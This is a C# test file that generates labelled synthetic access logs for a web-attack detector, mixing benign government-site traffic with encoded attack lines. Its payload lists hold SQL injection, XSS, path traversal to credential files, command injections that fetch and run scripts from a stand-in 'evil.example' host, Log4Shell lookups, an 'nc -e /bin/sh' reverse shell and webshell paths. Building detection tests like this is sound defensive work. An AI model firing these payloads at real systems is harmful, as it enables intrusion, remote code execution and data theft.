using System.Globalization;
using System.Text;
using GovGuard.Detection.Findings;

namespace GovGuard.Detection.Tests.Corpus.Logs;

/// <summary>One generated log line and what it is labelled with.</summary>
public sealed record LabelledLine(string Line, IReadOnlySet<string> Categories);

/// <summary>
/// A labelled access log generated from a seed: realistic benign traffic (search words like "union
/// station", Chinese queries, analytics tags, base64 tokens) with attack lines of every kind in every
/// encoding, plus password-guessing and path-enumeration bursts from their own clients.
/// </summary>
public static class LogCorpus
{
    private static readonly string[] Agents =
    [
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148 MicroMessenger/8.0.49",
        "Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 Version/17.5 Safari/605.1.15",
        "Mozilla/5.0 (Linux; Android 14) AppleWebKit/537.36 Chrome/125.0 Mobile Safari/537.36 HuaweiBrowser/15.0",
        "python-requests/2.31.0",
        "curl/8.5.0",
    ];

    private static readonly string[] BenignTargets =
    [
        "/", "/index.html", "/xxgk/index.shtml", "/zwgk/tzgg/202405/t20240512_1234.html", "/static/css/main.css?v=3",
        "/static/js/jquery.min.js", "/images/banner_2024.jpg", "/search?q=union+station", "/search?q=select+a+school+district",
        "/search?q=%E6%94%BF%E5%BA%9C%E4%BF%A1%E6%81%AF%E5%85%AC%E5%BC%80", "/search?keyword=drop+off+location&page=2",
        "/news/list.php?id=1024&page=3", "/article.jsp?id=88&lang=zh", "/index.aspx?tab=services&sort=desc",
        "/?utm_source=wechat&utm_medium=social&utm_campaign=2024_policy&utm_content=banner_top&gclid=Cj0KCQjw",
        "/api/session?token=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
        "/download.do;jsessionid=8A3F9C1E2B?file=report_2024.pdf", "/search?q=rock+and+roll+1%3D1+band", "/search?q=O%27Brien+family",
        "/wp-content/uploads/2024/05/photo.jpg", "/uploads/notice/2024.pdf", "/search?q=how+to+select+the+best+union+plan",
        "/search?q=%E8%81%94%E5%90%88%E6%9F%A5%E8%AF%A2+select", "/cgi-bin/weather?city=beijing&days=3",
        "/list?order=desc&where=city&and=1", "/login", "/user/profile?id=77", "/search?q=script+writing+workshop",
        "/search?q=1+or+2+tickets", "/page?name=alert+system+upgrade", "/api/v1/items?filter=%7B%22type%22%3A%22news%22%7D",
        "/robots.txt", "/favicon.ico", "/sitemap.xml", "/search?q=etc+password+reset+help", "/files/2024/../2024/a.pdf".Replace("../2024/", string.Empty),
        "/search?q=c%2B%2B+tutorial", "/search?q=what%27s+new", "/search?q=ping+pong+club", "/search?q=cat+adoption+%7C+shelter",
    ];

    /// <summary>Generates <paramref name="benign"/> background lines mixed with attack lines; returns lines and per-client burst labels.</summary>
    public static (List<LabelledLine> Lines, Dictionary<string, string> BurstClients) Generate(int seed, int benign, int attacksPerKind)
    {
        var rnd = new Random(seed);
        var lines = new List<LabelledLine>();
        var bursts = new Dictionary<string, string>(StringComparer.Ordinal);
        var t = new DateTimeOffset(2024, 5, 12, 8, 0, 0, TimeSpan.FromHours(8));
        var attacks = new List<(string Target, string Method, string Ua, int Status, string Category)>();
        foreach (var (payload, cat) in Payloads())
        {
            for (var i = 0; i < attacksPerKind; i++)
            {
                var (target, method, ua) = Shape(rnd, payload, cat, i);
                attacks.Add((target, method, ua, rnd.Next(3) == 0 ? 404 : 200, cat));
            }
        }

        // Bursts: password guessing and path enumeration, each from its own client.
        var burstLines = new List<(string Ip, string Target, string Method, int Status)>();
        for (var b = 0; b < 45; b++)
        {
            var ip = $"198.51.{100 + b / 200}.{b % 200 + 1}";
            bursts[ip] = Categories.AttackBruteforce;
            var path = b % 3 == 0 ? "/wp-login.php" : b % 3 == 1 ? "/admin/login.do" : "/user/login";
            for (var k = 0; k < 25; k++)
            {
                burstLines.Add((ip, path, "POST", b % 2 == 0 ? 200 : 401));
            }
        }

        for (var b = 0; b < 10; b++)
        {
            var ip = $"192.0.2.{b + 1}";
            bursts[ip] = Categories.AttackScanner;
            for (var k = 0; k < 50; k++)
            {
                burstLines.Add((ip, $"/{Word(rnd)}/{Word(rnd)}.bak", "GET", 404));
            }
        }

        var total = benign + attacks.Count + burstLines.Count;
        var ai = 0;
        var bi = 0;
        for (var n = 0; n < total; n++)
        {
            t = t.AddMilliseconds(rnd.Next(5, 120));
            var pick = rnd.Next(total - n);
            if (pick < attacks.Count - ai)
            {
                var a = attacks[ai++];
                var labels = new HashSet<string> { a.Category };
                if (a.Category == Categories.AttackCmdi && a.Target.Contains("etc", StringComparison.OrdinalIgnoreCase))
                {
                    // "cat /etc/hosts" is a command injection that also reads a system file: both are reported.
                    labels.Add(Categories.AttackTraversal);
                }

                lines.Add(new LabelledLine(Format(RandomIp(rnd), t, a.Method, a.Target, a.Status, a.Ua), labels));
            }
            else if (pick < attacks.Count - ai + burstLines.Count - bi)
            {
                var b = burstLines[bi++];
                lines.Add(new LabelledLine(Format(b.Ip, t, b.Method, b.Target, b.Status, Agents[0]), new HashSet<string>()));
            }
            else
            {
                var target = BenignTargets[rnd.Next(BenignTargets.Length)];
                var status = rnd.Next(20) == 0 ? 404 : 200;
                var method = target == "/login" && rnd.Next(2) == 0 ? "POST" : "GET";
                lines.Add(new LabelledLine(Format(RandomIp(rnd), t, method, target, status, Agents[rnd.Next(Agents.Length)]), new HashSet<string>()));
            }
        }

        return (lines, bursts);
    }

    private static string Format(string ip, DateTimeOffset t, string method, string target, int status, string ua) =>
        string.Create(CultureInfo.InvariantCulture,
            $"{ip} - - [{t.ToString("dd/MMM/yyyy:HH:mm:ss zzz", CultureInfo.InvariantCulture).Remove(24, 1)}] \"{method} {target} HTTP/1.1\" {status} {1000 + ip.Length * 37} \"-\" \"{ua}\"");

    private static string RandomIp(Random rnd) => $"{rnd.Next(1, 223)}.{rnd.Next(256)}.{rnd.Next(256)}.{rnd.Next(1, 255)}";

    private static string Word(Random rnd)
    {
        const string letters = "abcdefghijklmnopqrstuvwxyz";
        return string.Create(rnd.Next(3, 9), rnd, (s, r) =>
        {
            for (var i = 0; i < s.Length; i++)
            {
                s[i] = letters[r.Next(letters.Length)];
            }
        });
    }

    /// <summary>Attack payloads (decoded form) per category; UA payloads are marked with a leading "UA:".</summary>
    private static IEnumerable<(string Payload, string Category)> Payloads()
    {
        string[] sqli =
        [
            "1 union select 1,2,database()--", "1' union all select null,username,password from users--", "1' or '1'='1",
            "admin' or 1=1#", "1 and 1=1", "1' and sleep(5)--", "1; waitfor delay '0:0:5'--", "1 and benchmark(5000000,md5(1))",
            "1 union select table_name from information_schema.tables", "1; drop table users--", "1' and extractvalue(1,concat(0x7e,version()))--",
            "-1 union distinct select concat(user(),0x3a,version())", "1\" or \"a\"=\"a", "1) or (1=1", "1' AND 1=2 UNION SELECT 1,2,3-- -",
        ];
        string[] xss =
        [
            "<script>alert(1)</script>", "<img src=x onerror=alert(document.cookie)>", "<svg/onload=alert(1)>", "javascript:alert(1)",
            "\"><script src=//evil.example/x.js></script>", "<body onload=prompt(1)>", "' onmouseover='alert(1)", "<iframe src=javascript:alert(1)>",
            "<details open ontoggle=confirm(1)>", "<a href=\"javascript:void(document.cookie)\">x</a>", "<ScRiPt>document.write(1)</sCrIpT>",
        ];
        string[] traversal =
        [
            "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/WEB-INF/web.xml", "....//....//etc/shadow", "../../../../proc/self/environ",
            "..%c0%af..%c0%afetc/passwd", "/static/../../../../boot.ini", "file:///etc/passwd", "php://filter/convert.base64-encode/resource=index.php",
        ];
        string[] cmdi =
        [
            "127.0.0.1;id", "127.0.0.1|whoami", "1&&cat /etc/hosts", "$(curl http://evil.example/x.sh|sh)", "`id`", "127.0.0.1\nuname -a",
            "UA:${jndi:ldap://evil.example/a}", "${${lower:j}ndi:rmi://evil.example/x}", "%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
            "x;wget http://evil.example/a -O /tmp/a", "1|/bin/sh -i", "a=1; nc -e /bin/sh 1.2.3.4 4444",
        ];
        string[] scanner =
        [
            "UA:sqlmap/1.7.2#stable (https://sqlmap.org)", "UA:Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)",
            "UA:Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "UA:Mozilla/5.0 (compatible; acunetix-wvs)",
            "UA:Mozilla/5.0 Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "UA:masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
            "UA:Mozilla/5.0 zgrab/0.x", "UA:gobuster/3.6", "UA:Mozilla/5.0 (Windows NT 10.0) xray/1.9.11", "UA:WPScan v3.8.25 (https://wpscan.com/)",
            "UA:Fuzz Faster U Fool v2.1.0", "UA:Mozilla/5.0 (compatible; Goby)", "PATH:/nice%20ports%2C/Tri%6Eity.txt%2ebak",
        ];
        string[] shell =
        [
            "PATH:POST /uploads/2024/05/a.php", "PATH:POST /images/avatar/x.jsp", "PATH:GET /c99.php", "PATH:GET /shell.php",
            "PATH:POST /data/attachment/forum/1.phtml", "PATH:GET /upload/1.asp;.jpg", "PATH:GET /images/x.jpg/.php",
            "PATH:GET /cmd.jsp?cmd=whoami", "PATH:GET /x.php?z0=QGluaV9zZXQoImRpc3BsYXlfZXJyb3JzIiwiMCIpOw==",
            "PATH:POST /wp-content/uploads/2024/tmp.php", "PATH:GET /a.php?e=@eval($_POST[x])", "PATH:POST /attachments/b374k.php",
        ];
        foreach (var p in sqli)
        {
            yield return (p, Categories.AttackSqli);
        }

        foreach (var p in xss)
        {
            yield return (p, Categories.AttackXss);
        }

        foreach (var p in traversal)
        {
            yield return (p, Categories.AttackTraversal);
        }

        foreach (var p in cmdi)
        {
            yield return (p, Categories.AttackCmdi);
        }

        foreach (var p in scanner)
        {
            yield return (p, Categories.AttackScanner);
        }

        foreach (var p in shell)
        {
            yield return (p, Categories.AttackWebshellAccess);
        }
    }

    private static (string Target, string Method, string Ua) Shape(Random rnd, string payload, string category, int variant)
    {
        if (payload.StartsWith("UA:", StringComparison.Ordinal))
        {
            return ("/index.php?page=" + rnd.Next(100), "GET", payload[3..]);
        }

        if (payload.StartsWith("PATH:", StringComparison.Ordinal))
        {
            var body = payload[5..];
            var sp = body.IndexOf(' ', StringComparison.Ordinal);
            return sp > 0 && sp < 6 ? (body[(sp + 1)..], body[..sp], Agents[0]) : (body, "GET", Agents[0]);
        }

        var encoded = (variant % 7) switch
        {
            0 => PlusEncode(payload),
            1 => PercentAll(payload),
            2 => PercentAll(PercentAll(payload)),
            3 => UnicodeEncode(PlusEncode(MixCase(rnd, payload))),
            4 => category == Categories.AttackSqli ? PlusEncode(payload.Replace(" ", "/**/", StringComparison.Ordinal)) : PercentAll(MixCase(rnd, payload)),
            5 => category == Categories.AttackXss ? PercentAll(Entities(payload)) : PlusEncode(MixCase(rnd, payload)),
            _ => PercentAll(payload).Replace("%22", "\\x22", StringComparison.Ordinal),
        };
        var prefix = category == Categories.AttackTraversal
            ? (rnd.Next(2) == 0 ? "/download.php?file=" : "/static/")
            : new[] { "/news/list.php?id=", "/search?q=", "/index.jsp?page=", "/api/item?name=" }[rnd.Next(4)];
        if (category == Categories.AttackTraversal && prefix == "/static/" && payload.Contains(':', StringComparison.Ordinal))
        {
            prefix = "/read?path=";
        }

        return (prefix + encoded, rnd.Next(4) == 0 ? "POST" : "GET", Agents[rnd.Next(5)]);
    }

    private static string MixCase(Random rnd, string s) =>
        string.Concat(s.Select(c => char.IsAsciiLetter(c) && rnd.Next(2) == 0 ? char.ToUpperInvariant(c) : c));

    private static string PlusEncode(string s)
    {
        var sb = new StringBuilder();
        foreach (var b in Encoding.UTF8.GetBytes(s))
        {
            if (b == ' ')
            {
                sb.Append('+');
            }
            else if (char.IsAsciiLetterOrDigit((char)b) || "-_.~/,()*!:=$".Contains((char)b, StringComparison.Ordinal))
            {
                sb.Append((char)b);
            }
            else
            {
                sb.Append('%').Append(b.ToString("X2", CultureInfo.InvariantCulture));
            }
        }

        return sb.ToString();
    }

    private static string PercentAll(string s)
    {
        var sb = new StringBuilder();
        foreach (var b in Encoding.UTF8.GetBytes(s))
        {
            if (char.IsAsciiLetterOrDigit((char)b) || b is (byte)'/' or (byte)'.' or (byte)'-' or (byte)'_')
            {
                sb.Append((char)b);
            }
            else
            {
                sb.Append('%').Append(b.ToString("X2", CultureInfo.InvariantCulture));
            }
        }

        return sb.ToString();
    }

    private static string UnicodeEncode(string s) =>
        s.Replace("%3C", "%u003C", StringComparison.Ordinal).Replace("%27", "%u0027", StringComparison.Ordinal)
            .Replace("%3E", "%u003E", StringComparison.Ordinal).Replace("%3B", "%u003B", StringComparison.Ordinal);

    private static string Entities(string s) =>
        s.Replace("<", "&lt;", StringComparison.Ordinal).Replace(">", "&#62;", StringComparison.Ordinal).Replace("\"", "&quot;", StringComparison.Ordinal);
}
